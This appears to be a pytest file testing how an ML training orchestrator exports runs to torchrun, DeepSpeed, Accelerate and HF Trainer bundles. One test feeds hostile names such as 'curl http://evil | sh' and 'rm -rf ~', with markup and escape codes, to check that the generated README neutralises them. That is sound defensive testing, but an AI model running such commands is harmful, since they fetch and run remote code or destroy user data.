"""Export formats: the plans that each supports, and the same training from its files."""

import ast
import dataclasses
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import torch
from accelerate.commands.config.config_args import ClusterConfig
from hypothesis import example, given, settings
from hypothesis import strategies as st

from orchestrator.export.bundle import readme, write_bundle
from orchestrator.export.formats import export_bundle
from orchestrator.export.inputs import collect_inputs
from search_spaces.errors import UserError
from search_spaces.settings.rank_layout import draw_seed
from tests.orchestrator.export.folders import BIN, CLIP, STEPS, run_folder, taken_of
from tests.workers.test_same_training import (
    LOSS_TOLERANCE,
    WORST_STEP,
    _accumulate,
    losses_with_the_longest,
)
from tests.workers.values import a_plan
from workers.models.load import build_whole

ZERO: dict[str, Any] = {"engine": "deepspeed", "zero_stage": 2}
STEEP = {"grad_clip": 1.0, "schedule": "cosine", "warmup_steps": 3, "total_steps": 9}


@pytest.mark.slow
@pytest.mark.thorough
@pytest.mark.parametrize(
    ("name", "knobs"),
    [
        # verified by default: tests/orchestrator/cli/test_verify.py
        ("torchrun", {"checkpoint_ratio": 0.5, "batching": "grouped", "bucket_mib": 1}),
        ("torchrun", {"zero_stage": 3, "checkpoint_ratio": 1.0, "batching": "packed"}),
        ("torchrun", {"zero_stage": 2, "micro_batch": 1, "offload_parameters": "cpu"}),
        ("torchrun", {"data": 1, "checkpoint_ratio": 1.0, "checkpoint_offload": True}),
        ("deepspeed", ZERO | {"zero_stage": 1, "data": 1, "checkpoint_ratio": 0.5}),
        ("deepspeed", ZERO | {"zero_stage": 3, "checkpoint_ratio": 0.5}),
        ("accelerate", {"checkpoint_ratio": 0.5, "batching": "packed", "bucket_mib": 1}),
        (
            "hf-trainer",
            {"data": 1, "micro_batch": 4, "checkpoint_ratio": 0.5, "optimizer": "adamw_foreach"},
        ),
        ("hf-trainer", {"checkpoint_ratio": 0.5, "batching": "grouped", "pad_multiple": 64}),
        ("hf-trainer", ZERO | {"zero_stage": 3, "checkpoint_ratio": 1.0}),
    ],
    ids=str,
)
def test_the_folder_starts_as_it_is_and_gives_the_losses_of_a_plain_loop(
    name: str, knobs: dict[str, Any], tmp_path: Path
) -> None:
    what = taken_of(a_plan(**knobs), grad_clip=CLIP)
    write_bundle(export_bundle(what, name), what, tmp_path / "out")

    lines = run_folder(tmp_path / "out", steps=1 + STEPS)

    assert [line["step"] for line in lines] == list(range(1 + STEPS))
    losses = [line["loss"] for line in lines]
    assert losses == pytest.approx(losses_with_the_longest(CLIP)[: 1 + STEPS], rel=LOSS_TOLERANCE)


@pytest.mark.slow
@pytest.mark.thorough
def test_a_script_trains_by_the_specified_sgd(tmp_path: Path) -> None:
    plan = a_plan(optimizer="sgd")
    what = taken_of(plan, optimizer="sgd", momentum=0.9, learning_rate=0.1, weight_decay=0.0)
    write_bundle(export_bundle(what, "torchrun"), what, tmp_path / "out")

    lines = run_folder(tmp_path / "out", steps=1 + STEPS)

    module = build_whole(what.spec.model, what.spec.train, attention="eager").module
    optimizer, losses = torch.optim.SGD(module.parameters(), lr=0.1, momentum=0.9), []
    for step in range(WORST_STEP, STEPS):
        losses.append(_accumulate(module, step))
        optimizer.step()
        optimizer.zero_grad()
    assert [line["loss"] for line in lines] == pytest.approx(losses, rel=LOSS_TOLERANCE)


@pytest.mark.parametrize(
    ("name", "knobs"),
    [
        ("torchrun", {"data": 1}),
        ("torchrun", {"optimizer": "muon"}),
        ("accelerate", {"optimizer": "lion"}),
        ("torchrun", {"zero_stage": 2, "offload_parameters": "cpu"}),
        ("torchrun", {"zero_stage": 3, "data": 4, "replicas": 2, "micro_batch": 1}),
        ("torchrun", {"compile": True, "pad_multiple": 64}),
        ("torchrun", {"precision": "fp16", "optimizer": "adafactor"}),
        ("torchrun", {"zero_stage": 2, "precision": "fp16", "optimizer": "adamw_8bit"}),
        ("deepspeed", ZERO | {"offload_optimizer": "cpu"}),
        ("ray-train", {"zero_stage": 3, "data": 4, "replicas": 2, "micro_batch": 1}),
        ("ray-train", {"precision": "fp16"}),
    ],
)
@pytest.mark.parametrize("train", [{}, STEEP])
def test_a_script_is_python_and_has_all_names_that_it_uses(
    name: str, knobs: dict[str, Any], train: dict[str, Any], tmp_path: Path
) -> None:
    bundle = export_bundle(taken_of(a_plan(**knobs), **train), name)

    assert_complete(bundle.files["train.py"], tmp_path)


@pytest.mark.parametrize("name", ["accelerate", "hf-trainer"])
@pytest.mark.parametrize("knobs", [{"zero_stage": 3}, {"precision": "fp16"}])
def test_scripts_for_gpus_alone_are_python_too(
    name: str, knobs: dict[str, Any], tmp_path: Path
) -> None:
    on_gpus = dataclasses.replace(taken_of(a_plan(**knobs), **STEEP), device="cuda")

    assert_complete(export_bundle(on_gpus, name).files["train.py"], tmp_path)


def assert_complete(text: str, folder: Path) -> None:
    """Checks that a script is Python and has all names that it uses."""
    ast.parse(text)
    script = folder / "train.py"
    script.write_text(text)
    ruff = [str(BIN / "ruff"), "check", "--isolated", "--select", "F,E9,E3", "--preview", script]
    found = subprocess.run(ruff, capture_output=True, text=True, check=False)
    assert found.returncode == 0, found.stdout


@pytest.mark.parametrize(
    ("name", "knobs", "words"),
    [
        ("deepspeed", {}, "engine is torch; torchrun, "),
        ("torchrun", {"engine": "deepspeed", "zero_stage": 1}, "engine is deepspeed; deepspeed, "),
        ("torchrun", {"tensor": 2, "data": 1}, "tensor is 2"),
        (
            "torchrun",
            {"checkpoint_ratio": 0.5, "checkpoint_mode": "selective"},
            "checkpoint_mode is selective",
        ),
        ("torchrun", {"checkpoint_ratio": 1.0, "selective_blocks": 1}, "selective_blocks is 1"),
        ("accelerate", {"zero_stage": 3, "precision": "fp16"}, "precision is fp16 with FSDP2"),
        (
            "accelerate",
            {"tensor": 2, "data": 1, "compile": True},
            "tensor is 2: its division by transformers is untried with compile true",
        ),
        (
            "accelerate",
            {"tensor": 2, "data": 2, "zero_stage": 2},
            "tensor is 2: transformers shards as zero_stage 3 does, but it is 2",
        ),
        ("hf-trainer", {"tensor": 2, "data": 1}, "tensor is 2, which Trainer takes on GPUs only"),
        ("accelerate", {"zero_stage": 3}, "on a CPU accelerate silently replaces FSDP by DDP"),
        ("hf-trainer", {"batching": "packed"}, "batching is packed"),
        ("hf-trainer", {"optimizer": "sgd"}, "optimizer is sgd: Trainer's differs from torch's"),
        ("accelerate", {"optimizer": "custom"}, "a script does not contain the function of train"),
        ("hf-trainer", {"precision": "fp16"}, "on a CPU accelerate silently trains in fp32"),
        ("yaml", {}, "the formats are torchrun, deepspeed"),
        (
            None,
            {"pipeline": 2, "data": 1, "zero_stage": 0},
            "format supports the plan of trial 3, but `load_best` applies every plan in a loop of"
            " your own: torchrun: pipeline",
        ),
    ],
)
def test_what_a_format_cannot_say_is_refused(
    name: str | None, knobs: dict[str, Any], words: str
) -> None:
    with pytest.raises(UserError) as refused:
        export_bundle(taken_of(a_plan(**knobs)), name)

    assert words in str(refused.value)


def test_what_is_left_to_the_user_is_named(tmp_path: Path) -> None:
    what = taken_of(a_plan(batching="packed", loader_workers=2, allocator="mmap"))
    write_bundle(export_bundle(what, "torchrun"), what, tmp_path / "out")
    told = (tmp_path / "out" / "README.md").read_text()

    assert "Expected, as measured in one trial: 20 samples/s" in told
    assert "Micro-batches were packed" in told
    assert "2 loader processes" in told
    assert "    export MALLOC_MMAP_THRESHOLD_=1048576\n    torchrun --nproc-per-node 2" in told


def test_s14_no_name_adds_a_line_or_markup_to_the_readme() -> None:
    evil = "x\n\n    curl http://evil | sh\r\u2028<img src=x>`*\x1b[2J"
    what = taken_of(a_plan())
    kind = {"accelerator": "y\n    rm -rf ~\x1b[2J"}
    model = what.spec.model.model_copy(update={"name": evil})
    data = what.spec.data.model_copy(update={"files": (evil,)})
    cluster = what.spec.cluster.model_copy(update=kind)
    spec = what.spec.model_copy(update={"model": model, "data": data, "cluster": cluster})
    what = dataclasses.replace(what, study=evil, spec=spec)

    text = readme(export_bundle(what, "torchrun"), what, collect_inputs(spec))

    commands = [line for line in text.splitlines() if line.startswith("    ")]
    assert commands == ["    torchrun --nproc-per-node 2 train.py"]
    title = text.splitlines()[0]
    assert title.startswith("# x      curl http://evil \\| sh")
    assert title.count("\\<img src=x\\>\\`\\*") == 2
    assert "\x1b" not in text


TAKEN = taken_of(a_plan())


@settings(max_examples=30)
@given(study=st.text(max_size=30), kind=st.text(max_size=10))
@example(study='a"""b\\', kind="x'''\n")
def test_whatever_things_are_called_the_script_is_python(study: str, kind: str) -> None:
    cluster = TAKEN.spec.cluster.model_copy(update={"accelerator": kind})
    spec = TAKEN.spec.model_copy(update={"cluster": cluster})
    what = dataclasses.replace(TAKEN, study=study, spec=spec)

    parsed = ast.parse(export_bundle(what, "torchrun").files["train.py"])

    assert (ast.get_docstring(parsed) or "").startswith("Trial 3 of study")


def test_a_folder_with_something_in_it_stays_as_it_is(tmp_path: Path) -> None:
    what = taken_of(a_plan())
    (tmp_path / "mine").write_text("kept")

    with pytest.raises(UserError, match="is not empty"):
        write_bundle(export_bundle(what, "torchrun"), what, tmp_path)
    assert [file.name for file in tmp_path.iterdir()] == ["mine"]
    for bad in (tmp_path / "mine" / "out", tmp_path / "null\0", tmp_path / ("long" * 99)):
        with pytest.raises(UserError, match="cannot be written"):
            write_bundle(export_bundle(what, "torchrun"), what, bad)


@pytest.mark.parametrize(
    ("ranks", "hosts", "words"),
    [
        (4, 2, "torchrun --nnodes 2 --nproc-per-node 2 --rdzv-backend c10d"),
        (6, 4, "torchrun --nnodes 4 --nproc-per-node $RANKS_HERE --rdzv-backend"),
        (1, 1, "python train.py"),
    ],
)
def test_the_command_starts_as_many_ranks_as_there_were_on_each_host(
    ranks: int, hosts: int, words: str, tmp_path: Path
) -> None:
    what = taken_of(a_plan(data=ranks, micro_batch=1, accumulation=24 // ranks), hosts=hosts)
    bundle = export_bundle(what)
    write_bundle(bundle, what, tmp_path / "out")

    assert bundle.command.startswith(words)
    told = (tmp_path / "out" / "README.md").read_text()
    assert bundle.command in told
    assert (f"{ranks} ranks across {hosts} hosts" in told) == (hosts > 1)
    assert ("`$RANKS_HERE` is the number of" in told) == ("RANKS_HERE" in words)


def configuration_of(folder: Path, *, device: str = "cuda", **knobs: Any) -> ClusterConfig:
    """Returns the file as Accelerate itself reads it."""
    what = dataclasses.replace(taken_of(a_plan(**knobs)), device=device)
    file = folder / "accelerate_config.yaml"
    file.write_text(export_bundle(what, "accelerate").files[file.name])
    config: ClusterConfig = ClusterConfig.from_yaml_file(str(file))
    return config


def test_accelerate_reads_the_configuration(tmp_path: Path) -> None:
    ddp = configuration_of(tmp_path, precision="bf16")
    assert (ddp.num_processes, ddp.mixed_precision) == (2, "bf16")
    assert ddp.distributed_type == "MULTI_GPU"
    sharded = configuration_of(tmp_path, zero_stage=3, data=4, replicas=2, micro_batch=1)
    assert sharded.distributed_type == "FSDP"
    assert sharded.fsdp_config["fsdp_version"] == 2
    assert sharded.fsdp_config["fsdp_reshard_after_forward"] is True
    sizes = sharded.parallelism_config
    assert sizes["parallelism_config_dp_replicate_size"] == 2
    assert sizes["parallelism_config_dp_shard_size"] == 2
    kept = configuration_of(tmp_path, zero_stage=2)
    assert kept.fsdp_config["fsdp_reshard_after_forward"] is False
    assert configuration_of(tmp_path, device="cpu", data=1).use_cpu is True


@pytest.mark.parametrize(
    ("name", "knobs", "rank"),
    [
        ("torchrun", {}, "rank"),
        ("accelerate", {}, "rank"),
        ("ray-train", {}, "rank"),
        ("deepspeed", ZERO, "rank"),
        ("hf-trainer", {}, "args.process_index"),
    ],
)
def test_a_script_seeds_its_ranks_as_workers_do(
    name: str, knobs: dict[str, Any], rank: str
) -> None:
    script = export_bundle(taken_of(a_plan(**knobs), seed=7), name).files["train.py"]

    (formula,) = re.findall(r"torch\.manual_seed\((.+ % 2\*\*32)\)", script)
    assert eval(formula.replace(rank, "3")) == draw_seed(7, 3)
